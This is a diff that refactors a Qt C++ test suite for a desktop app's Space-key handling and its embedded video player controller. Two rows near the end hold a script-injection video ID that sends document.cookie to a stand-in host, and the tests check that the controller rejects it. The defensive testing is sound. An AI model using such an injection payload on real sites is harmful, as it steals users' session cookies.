@@ -46,24 +46,15 @@ Q_DECLARE_METATYPE(Wheels)
 namespace {
 
 // Counts the presses of one key (not of the modifiers) that reach a widget.
-class KeyCounter : public QObject
+struct KeyCounter : QObject
 {
-public:
-    explicit KeyCounter(int key = Qt::Key_Space)
-        : m_key(key)
-    {}
-    int presses = 0;
-
-protected:
     bool eventFilter(QObject *, QEvent *event) override
     {
-        if (event->type() == QEvent::KeyPress && static_cast<QKeyEvent *>(event)->key() == m_key)
-            ++presses;
+        presses += event->type() == QEvent::KeyPress && static_cast<QKeyEvent *>(event)->key() == key;
         return false;
     }
-
-private:
-    int m_key;
+    int key = Qt::Key_Space;
+    int presses = 0;
 };
 
 // Records every script the controller sends.
@@ -123,6 +114,7 @@ QString withIDs(const char *text)
 //   drop          the current page goes away
 //   ready         the page says it is ready
 //   msg JSON      the page posts JSON through the bridge
+//   state S       the page posts {"t":"state","s":S}; error C likewise with "c"
 //   load ID 0|1   load with autoplay off or on
 //   play, pause   the operations of the same names
 //   timeout       the loading time-out expires (when it runs)
@@ -148,6 +140,8 @@ struct Harness
                 bridge.postMessage(parsed(uR"({"t":"ready"})"_qs));
             } else if (verb == u"msg") {
                 bridge.postMessage(parsed(rest));
+            } else if (verb == u"state" || verb == u"error") {
+                bridge.postMessage(parsed(uR"({"t":"%1","%2":%3})"_qs.arg(verb, verb == u"state" ? u"s" : u"c", rest)));
             } else if (verb == u"load") {
                 controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1");
             } else if (verb == u"play") {
@@ -176,8 +170,7 @@ QByteArray encoded(const QSize &size, const char *format = "PNG")
 
 FakeReply imageReply(const QByteArray &body, std::chrono::milliseconds delay = {})
 {
-    FakeReply reply;
-    reply.body = body;
+    FakeReply reply = FakeReply::json(body);
     reply.headers = {{"Content-Type", "image/png"}};
     reply.delay = delay;
     return reply;
@@ -359,21 +352,20 @@ private Q_SLOTS:
 
         const QString main = QStringLiteral("Clipvane");
         const auto row = [](const char *name, const QString &title, const char *focus, Qt::KeyboardModifiers mods,
-                            int key, bool toggles) {
+                            bool toggles, int key = Qt::Key_Space) {
             QTest::newRow(name) << title << QString::fromLatin1(focus) << int(mods) << key << toggles;
         };
-        row("list focused", main, "list", Qt::NoModifier, Qt::Key_Space, true);
-        row("keypad space", main, "list", Qt::KeypadModifier, Qt::Key_Space, true);
-        row("search field keeps Space", main, "search", Qt::NoModifier, Qt::Key_Space, false);
-        row("text view keeps Space", main, "notes", Qt::NoModifier, Qt::Key_Space, false);
-        row("Shift+Space", main, "list", Qt::ShiftModifier, Qt::Key_Space, false);
-        row("Ctrl+Space", main, "list", Qt::ControlModifier, Qt::Key_Space, false);
-        row("Alt+Space", main, "list", Qt::AltModifier, Qt::Key_Space, false);
-        row("Meta+Space", main, "list", Qt::MetaModifier, Qt::Key_Space, false);
-        row("another key", main, "list", Qt::NoModifier, Qt::Key_Return, false);
-        row("settings window", QStringLiteral("Settings"), "list", Qt::NoModifier, Qt::Key_Space, false);
-        row("title only close to the main one", QStringLiteral("Clipvane "), "list", Qt::NoModifier, Qt::Key_Space,
-            false);
+        row("list focused", main, "list", Qt::NoModifier, true);
+        row("keypad space", main, "list", Qt::KeypadModifier, true);
+        row("search field keeps Space", main, "search", Qt::NoModifier, false);
+        row("text view keeps Space", main, "notes", Qt::NoModifier, false);
+        row("Shift+Space", main, "list", Qt::ShiftModifier, false);
+        row("Ctrl+Space", main, "list", Qt::ControlModifier, false);
+        row("Alt+Space", main, "list", Qt::AltModifier, false);
+        row("Meta+Space", main, "list", Qt::MetaModifier, false);
+        row("another key", main, "list", Qt::NoModifier, false, Qt::Key_Return);
+        row("settings window", QStringLiteral("Settings"), "list", Qt::NoModifier, false);
+        row("title only close to the main one", QStringLiteral("Clipvane "), "list", Qt::NoModifier, false);
     }
 
     void spaceKey()
@@ -391,23 +383,17 @@ private Q_SLOTS:
         QWidget window;
         window.setWindowTitle(windowTitle);
         auto *layout = new QVBoxLayout(&window);
-        auto *list = new QListWidget;
-        list->addItems({QStringLiteral("one"), QStringLiteral("two")});
-        auto *search = new QLineEdit;
-        auto *notes = new QPlainTextEdit;
-        layout->addWidget(search);
-        layout->addWidget(list);
-        layout->addWidget(notes);
+        for (QWidget *widget : std::initializer_list<QWidget *>{new QLineEdit, new QListWidget, new QPlainTextEdit})
+            layout->addWidget(widget);
         window.show();
         window.activateWindow();
         QVERIFY(QTest::qWaitForWindowActive(&window));
-        QWidget *target = focus == u"list"     ? static_cast<QWidget *>(list)
-                          : focus == u"search" ? static_cast<QWidget *>(search)
-                                               : static_cast<QWidget *>(notes);
+        QWidget *target = layout->itemAt(focus == u"search" ? 0 : focus == u"list" ? 1 : 2)->widget();
         target->setFocus();
         QCOMPARE(QApplication::focusWidget(), target);
 
-        KeyCounter counter(key);
+        KeyCounter counter;
+        counter.key = key;
         target->installEventFilter(&counter);
         for (int press = 1; press <= 2; ++press) {
             QTest::keyClick(target, Qt::Key(key), Qt::KeyboardModifiers(modifiers));
@@ -444,107 +430,99 @@ private Q_SLOTS:
     {
         QTest::addColumn<QString>("steps");
         QTest::addColumn<QString>("scripts"); // every script sent, separated by " "
-        QTest::addColumn<bool>("playing");
-        QTest::addColumn<bool>("loading");
-        QTest::addColumn<QString>("error"); // empty: none
-        QTest::addColumn<QString>("pending");
+        QTest::addColumn<QString>("state");   // "playing", "loading", "error=CODE", "pending=ID"
 
-        const auto row = [](const char *name, const char *steps, const char *scripts, bool playing, bool loading,
-                            const char *error, const char *pending = "") {
-            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << playing << loading
-                                << QString::fromLatin1(error) << withIDs(pending);
+        const auto row = [](const char *name, const char *steps, const char *scripts, const char *state) {
+            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << withIDs(state);
         };
 
         // Waiting for the page.
-        row("no page: load waits", "load A 1", "", false, false, "", "A");
-        row("attached, not ready: load waits", "attach, load A 0", "", false, false, "", "A");
-        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", false, true, "");
-        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", true, true, "");
-        row("two loads before ready: only the second, with its own flag", "attach, load A 1, load B 0, ready",
-            "cueVideo(B)", false, true, "");
-        row("second ready with nothing pending sends nothing", "attach, ready, load A 0, ready", "cueVideo(A)", false,
-            true, "");
-        row("play before ready only changes the flag", "attach, play", "", true, false, "");
+        row("no page: load waits", "load A 1", "", "pending=A");
+        row("attached, not ready: load waits", "attach, load A 0", "", "pending=A");
+        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", "loading");
+        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", "playing loading");
+        row("two loads before ready: the second", "attach, load A 1, load B 0, ready", "cueVideo(B)", "loading");
+        row("second ready with nothing pending", "attach, ready, load A 0, ready", "cueVideo(A)", "loading");
+        row("play before ready only changes the flag", "attach, play", "", "playing");
 
         // The same video again.
-        row("same video without autoplay does nothing", "attach, ready, load A 0, load A 0", "cueVideo(A)", false, true,
-            "");
-        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", true,
-            true, "");
+        row("same video without autoplay", "attach, ready, load A 0, load A 0", "cueVideo(A)", "loading");
+        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()",
+            "playing loading");
 
         // The state table, after "attach, ready, load A 1".
-        const auto after = [&row](const char *name, const char *more, bool playing, bool loading,
-                                  const char *error = "") {
-            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", playing, loading,
-                error);
+        const auto after = [&row](const char *name, const char *more, const char *state) {
+            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", state);
         };
-        after("state 1 plays, ends loading", R"(msg {"t":"state","s":1})", true, false);
-        after("state 0 ends", R"(msg {"t":"state","s":0})", false, false);
-        after("state 2 pauses", R"(msg {"t":"state","s":2})", false, false);
-        after("state 5 cued", R"(msg {"t":"state","s":5})", false, false);
-        after("state -1 ignored", R"(msg {"t":"state","s":-1})", true, true);
-        after("state 3 ignored", R"(msg {"t":"state","s":3})", true, true);
-        after("state 4 only ends loading", R"(msg {"t":"state","s":4})", true, false);
-        after("state 1.0 is the integer 1", R"(msg {"t":"state","s":1.0})", true, false);
-        after("state without a number is -1", R"(msg {"t":"state"})", true, true);
-        after("state as text is -1", R"(msg {"t":"state","s":"1"})", true, true);
-        after("state 1.5 is -1", R"(msg {"t":"state","s":1.5})", true, true);
-        after("state beyond int is -1", R"(msg {"t":"state","s":1e300})", true, true);
+        after("state 1 plays, ends loading", "state 1", "playing");
+        after("state 0 ends", "state 0", "");
+        after("state 2 pauses", "state 2", "");
+        after("state 5 cued", "state 5", "");
+        after("state -1 ignored", "state -1", "playing loading");
+        after("state 3 ignored", "state 3", "playing loading");
+        after("state 4 only ends loading", "state 4", "playing");
+        after("state 1.0 is the integer 1", "state 1.0", "playing");
+        after("state without a number is -1", R"(msg {"t":"state"})", "playing loading");
+        after("state as text is -1", R"(state "1")", "playing loading");
+        after("state 1.5 is -1", "state 1.5", "playing loading");
+        after("state beyond int is -1", "state 1e300", "playing loading");
 
         // Errors.
-        after("error 150", R"(msg {"t":"error","c":150})", false, false, "150");
-        after("error without code is -1", R"(msg {"t":"error"})", false, false, "-1");
-        row("play keeps the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, play)",
-            "loadVideo(A) play()", true, false, "101");
-        after("same video keeps the error", R"(msg {"t":"error","c":101}, load A 0)", false, false, "101");
-        row("another video clears the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, load B 0)",
-            "loadVideo(A) cueVideo(B)", false, true, "");
+        after("error 150", "error 150", "error=150");
+        after("error without code is -1", R"(msg {"t":"error"})", "error=-1");
+        row("play keeps the error", "attach, ready, load A 1, error 101, play", "loadVideo(A) play()",
+            "playing error=101");
+        after("same video keeps the error", "error 101, load A 0", "error=101");
+        row("another video clears the error", "attach, ready, load A 1, error 101, load B 0",
+            "loadVideo(A) cueVideo(B)", "loading");
 
         // Malformed messages change nothing.
-        after("text body", R"(msg "ready")", true, true);
-        after("array body", R"(msg [{"t":"error"}])", true, true);
-        after("null body", "msg null", true, true);
-        after("no type", R"(msg {"s":1})", true, true);
-        after("type not text", R"(msg {"t":1,"s":1})", true, true);
-        after("unknown type", R"(msg {"t":"volume","s":1})", true, true);
+        after("text body", R"(msg "ready")", "playing loading");
+        after("array body", R"(msg [{"t":"error"}])", "playing loading");
+        after("null body", "msg null", "playing loading");
+        after("no type", R"(msg {"s":1})", "playing loading");
+        after("type not text", R"(msg {"t":1,"s":1})", "playing loading");
+        after("unknown type", R"(msg {"t":"volume","s":1})", "playing loading");
 
-        after("time-out ends loading only", "timeout", true, false);
+        after("time-out ends loading only", "timeout", "playing");
 
         // A new web view.
         row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
-            "loadVideo(A) loadVideo(A)", true, true, "");
+            "loadVideo(A) loadVideo(A)", "playing loading");
         row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
-            "loadVideo(A) pause() cueVideo(A)", false, true, "");
-        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)", true,
-            true, "", "A");
-        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)", true, true,
-            "", "B");
-        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", false,
-            true, "");
+            "loadVideo(A) pause() cueVideo(A)", "loading");
+        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)",
+            "playing loading pending=A");
+        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)",
+            "playing loading pending=B");
+        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)",
+            "loading");
 
         // Hostile or unplayable IDs are never loaded nor kept pending.
-        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", false, false, "");
-        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", false,
-            false, "");
+        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", "");
+        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", "");
     }
 
     void steps()
     {
         QFETCH(QString, steps);
-        QFETCH(QString, scripts);
-        QFETCH(bool, loading);
-        QFETCH(QString, error);
-
         Harness h;
         h.run(steps);
-        QCOMPARE(h.scripts.join(u' '), scripts);
-        QTEST(h.controller.isPlaying(), "playing");
-        QCOMPARE(h.controller.isLoading(), loading);
-        QCOMPARE(h.timer->isActive(), loading);
-        if (loading)
+        QTEST(h.scripts.join(u' '), "scripts");
+        PlayerController &c = h.controller;
+        QStringList state;
+        if (c.isPlaying())
+            state << u"playing"_qs;
+        if (c.isLoading())
+            state << u"loading"_qs;
+        if (c.embedError())
+            state << u"error=%1"_qs.arg(*c.embedError());
+        if (c.pendingID())
+            state << u"pending="_qs + *c.pendingID();
+        QTEST(state.join(u' '), "state");
+        QCOMPARE(h.timer->isActive(), c.isLoading());
+        if (c.isLoading())
             QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(PlayerController::kLoadingTimeout));
-        QCOMPARE(h.controller.embedError(), error.isEmpty() ? std::optional<int>() : std::optional<int>(error.toInt()));
-        QTEST(h.controller.pendingID().value_or(QString()), "pending");
     }
 
     void changeSignalsFollowTheValues()
